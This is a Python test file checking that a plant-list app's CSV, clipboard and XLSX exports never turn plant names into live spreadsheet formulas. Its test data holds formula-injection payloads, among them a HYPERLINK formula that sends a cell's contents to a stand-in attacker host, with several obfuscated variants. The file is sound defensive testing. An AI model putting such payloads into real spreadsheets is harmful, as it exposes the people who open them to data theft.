"""A plant's name never runs in the spreadsheet that a list is pasted into or opened with."""

import csv
import io
from xml.etree import ElementTree
from zipfile import ZipFile

import pytest

from plantdesk.sheets.reading.opening import look_at, read
from plantdesk.sheets.reading.shapes import TextForm
from plantdesk.sheets.tables import tabbed, write_table
from tests.sheets.tables import csv_rows

HEADS = ("Plant id", "Name", "Tag", "Store", "Sent at", "Reference")
LINK = '=HYPERLINK("http://attacker.example/?"&A1,"Rosa")'
RUNS = [
    LINK,
    *("+1+1", "-1+1", "@SUM(A1:A9)", f" {LINK}", f"\u200e{LINK}", "\uff1d1+1"),
    # A spreadsheet takes the outer quotation marks off what is pasted.
    '"=HYPERLINK(""http://attacker.example"")"',
    f'"\t{LINK}',
    f"Rosa\t{LINK}",
    f"Rosa\n{LINK}",
]


def pasted(text):
    """As a spreadsheet takes text with tabs: a cell may be in quotation marks."""
    return list(csv.reader(io.StringIO(text, newline=""), dialect="excel-tab"))


def runs(cell):
    shown = "".join(letter for letter in cell if letter.isprintable()).lstrip()
    return shown.startswith(("=", "+", "-", "@", "\uff1d"))


def test_nothing_in_a_list_runs_where_it_is_pasted_or_opened(tmp_path):
    for text in (*RUNS, "\x00=1+1", "\r=1+1"):
        row = (text,) * len(HEADS)
        head, copied = pasted(tabbed([HEADS, row]))
        assert len(head) == len(copied) == 6
        write_table(tmp_path / "list.csv", "Plants", HEADS, [row])
        (saved,) = csv_rows(tmp_path / "list.csv")
        assert not any(runs(cell) for cell in (*copied, *saved)), text


@pytest.mark.parametrize("text", ["Rosa;{}", 'Rosa;"{}', "Rosa\n{}", "Rosa", "Rosa; red"])
def test_a_sheet_keeps_its_separator_only_where_nothing_runs_at_this_computer_s(text, tmp_path):
    path, form = tmp_path / "list.csv", TextForm("utf-8", ",")
    row = [1, text.format(LINK)]
    write_table(path, "Plants", ["Id", "Name"], [row], separator=";", form=form)
    _, saved = path.read_text("utf-8").split("\n", 1)
    assert saved.startswith('"1";' if LINK in row[1] else '"1",')
    assert read(path, look_at(path).form).rows[1] == ("1", row[1])
    # Without a form to keep, this computer's counts.
    write_table(path, "Plants", ["Id", "Name"], [row], separator=";")
    assert b'"1";' in path.read_bytes()


def test_a_workbook_has_nothing_but_texts(tmp_path):
    texts = [*RUNS, "#REF!", "{=1+1}", "2026-11-23"]
    write_table(tmp_path / "list.xlsx", "Plants", texts, [texts])
    with ZipFile(tmp_path / "list.xlsx") as archive:
        assert not any("external" in name.lower() for name in archive.namelist())
        sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    cells = list(sheet.iterfind(".//{*}c"))
    assert {cell.get("t") for cell in cells} == {"inlineStr"}
    parts = {part.tag.partition("}")[2] for cell in cells for part in cell.iter()}
    assert parts == {"c", "is", "t"}
    assert [cell.findtext(".//{*}t") for cell in cells] == texts * 2
